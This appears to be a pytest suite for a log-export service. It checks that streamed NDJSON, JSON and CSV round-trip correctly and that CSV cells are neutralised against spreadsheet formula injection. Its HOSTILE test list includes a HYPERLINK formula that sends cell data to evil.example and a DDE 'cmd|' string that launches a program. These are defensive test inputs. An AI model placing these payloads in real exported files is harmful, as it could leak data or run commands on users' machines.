"""Streaming export rendering: ndjson, json and csv parse back to the same events."""

from __future__ import annotations

import csv
import io
import json
import re
from collections.abc import AsyncIterator

import orjson
import pytest

from services.log.export import CHUNK_BYTES, CSV_COLUMNS, FORMATS, csv_cell, render

OBJECT_COLUMNS = {"before", "after", "metadata", "attributes"}


def make_events(n: int, pad: int = 0) -> list[dict]:
    out = []
    for i in range(n):
        e = {
            "id": f"evt-{i}",
            "timestamp": f"2026-01-31T12:00:{i % 60:02d}.000Z",
            "received_at": "2026-01-31T12:01:00.000Z",
            "tenant_id": "acme",
            "level": "INFO" if i % 2 else "ERROR",
            "message": f'line {i}, "quoted"\nsecond line é' + "x" * pad,
        }
        if i % 3 == 0:
            e["service"] = "billing"
            e["attributes"] = {"n": i, "tags": ["a", "b"], "nested": {"ok": True}}
        if i % 4 == 0:
            e["before"] = {"a": 1}
            e["after"] = {"a": 2, "s": "x,y"}
            e["metadata"] = {}
        out.append(e)
    return out


async def agen(events: list[dict]) -> AsyncIterator[dict]:
    for e in events:
        yield e


async def chunks_of(events: list[dict], fmt: str) -> list[bytes]:
    return [c async for c in render(agen(events), fmt)]


def parse_csv(data: bytes) -> tuple[list[str], list[dict]]:
    rows = list(csv.reader(io.StringIO(data.decode(), newline="")))
    header, body = rows[0], rows[1:]
    events = []
    for row in body:
        e = {}
        for col, cell in zip(header, row, strict=True):
            if cell == "":
                continue
            e[col] = json.loads(cell) if col in OBJECT_COLUMNS else cell
        events.append(e)
    return header, events


def test_formats_have_content_types():
    assert set(FORMATS) == {"ndjson", "json", "csv"}


async def test_ndjson_round_trip():
    events = make_events(20)
    data = b"".join(await chunks_of(events, "ndjson"))
    lines = data.split(b"\n")
    assert lines[-1] == b""
    assert [json.loads(line) for line in lines[:-1]] == events


async def test_json_round_trip():
    events = make_events(20)
    assert json.loads(b"".join(await chunks_of(events, "json"))) == events


async def test_csv_round_trip():
    events = make_events(20)
    data = b"".join(await chunks_of(events, "csv"))
    header, parsed = parse_csv(data)
    assert header == CSV_COLUMNS
    assert parsed == events
    assert data.count(b"\r\n") >= len(events) + 1


async def test_csv_object_cells_are_json():
    data = b"".join(await chunks_of(make_events(1), "csv"))
    header, *rows = list(csv.reader(io.StringIO(data.decode(), newline="")))
    row = dict(zip(header, rows[0], strict=True))
    assert json.loads(row["attributes"]) == {"n": 0, "tags": ["a", "b"], "nested": {"ok": True}}
    assert row["metadata"] == "{}"
    assert row["host"] == ""


async def test_empty_input():
    assert json.loads(b"".join(await chunks_of([], "json"))) == []
    assert b"".join(await chunks_of([], "ndjson")) == b""
    data = b"".join(await chunks_of([], "csv"))
    assert data == (",".join(CSV_COLUMNS) + "\r\n").encode()


@pytest.mark.parametrize("fmt", ["ndjson", "json", "csv"])
async def test_large_output_is_chunked(fmt):
    events = make_events(400, pad=1000)  # ≈ 400 KiB
    chunks = await chunks_of(events, fmt)
    assert len(chunks) >= 4
    biggest_event = max(len(orjson.dumps(e)) for e in events)
    for c in chunks:
        # a chunk is flushed once it reaches CHUNK_BYTES, so it overshoots by ≤ one event
        assert len(c) <= CHUNK_BYTES + 2 * biggest_event
    for c in chunks[:-1]:
        assert len(c) >= CHUNK_BYTES * 0.9
    data = b"".join(chunks)
    if fmt == "json":
        assert json.loads(data) == events
    elif fmt == "ndjson":
        assert [json.loads(x) for x in data.splitlines()] == events
    else:
        assert parse_csv(data)[1] == events


async def test_render_is_lazy():
    """Chunks are produced as events arrive, not after the whole input was read."""
    pulled = 0

    async def counting():
        nonlocal pulled
        for e in make_events(400, pad=1000):
            pulled += 1
            yield e

    stream = render(counting(), "ndjson")
    first = await anext(stream)
    assert len(first) >= CHUNK_BYTES
    assert pulled < 400
    await stream.aclose()


# --- spreadsheet safety (OWASP CSV injection) ---------------------------------------

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1,1)",
    "\t=1+1",
    "\r=1+1",
    "'already quoted",
    "\x1b[31mred\x1b[0m",
    "nul\x00byte and bell\x07 and del\x7f and c1\x85\x9b",
    "=formula with C:\\path\\ and \\u0041 literal",
]
_UNESCAPE = re.compile(r"\\(\\|u[0-9a-f]{4})")


def read_cell(cell: str) -> str:
    """The README's rule for reading a CSV cell back, written independently of the code."""
    if not cell.startswith("'"):
        return cell
    return _UNESCAPE.sub(
        lambda m: "\\" if m.group(1) == "\\" else chr(int(m.group(1)[1:], 16)), cell[1:]
    )


@pytest.mark.parametrize("value", HOSTILE)
def test_csv_cell_is_inert_and_reversible(value: str) -> None:
    cell = csv_cell(value)
    assert cell[0] not in "=+-@\t\r", cell
    assert cell.startswith("'")
    assert not re.search("[\x00-\x08\x0b\x0c\x0e-\x1f\x7f-\x9f]", cell), cell
    assert read_cell(cell) == value


@pytest.mark.parametrize(
    "value",
    [
        "payment failed",
        "C:\\temp\\x",
        "\\u0041 is not decoded",
        "50% done",
        "line one\nline two",
        "tab\tinside",
        "",
    ],
)
def test_ordinary_cells_are_unchanged(value: str) -> None:
    assert csv_cell(value) == value
    assert read_cell(csv_cell(value)) == value


async def test_csv_export_neutralises_every_column() -> None:
    """Hostile text in any column, attribute keys and values included, leaves inert."""
    events = [
        {
            "id": f"=id{i}",
            "timestamp": "2026-01-31T12:00:00.000Z",
            "tenant_id": "acme",
            "level": "ERROR",
            "message": value,
            "service": "@svc",
            "user_agent": "-ua\x1b",
            "attributes": {"=k": value},
        }
        for i, value in enumerate(HOSTILE)
    ]
    data = b"".join(await chunks_of(events, "csv")).decode()
    header, *rows = list(csv.reader(io.StringIO(data, newline="")))
    assert header == CSV_COLUMNS
    assert len(rows) == len(events)
    for row, event in zip(rows, events, strict=True):
        for col, cell in zip(header, row, strict=True):
            assert cell[:1] not in ("=", "+", "-", "@", "\t", "\r"), (col, cell)
            assert not re.search("[\x00-\x08\x0b\x0c\x0e-\x1f\x7f-\x9f]", cell), (col, cell)
            if cell == "":
                assert col not in event
                continue
            value = read_cell(cell)
            expected = event[col]
            assert (json.loads(value) if col in OBJECT_COLUMNS else value) == expected, col
